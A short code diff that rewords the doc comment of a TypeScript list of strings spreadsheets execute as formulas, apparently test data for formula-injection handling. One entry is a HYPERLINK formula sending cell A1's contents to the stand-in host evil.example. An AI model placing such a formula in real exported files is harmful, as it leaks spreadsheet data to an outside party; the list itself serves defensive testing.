@@ -1,4 +1,4 @@
-/** Texts that a spreadsheet runs as formulas when they are not marked as text. */
+/** Texts that a spreadsheet runs as formulas unless marked as text. */
 export const FORMULAS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.example?x="&A1,"Click")',
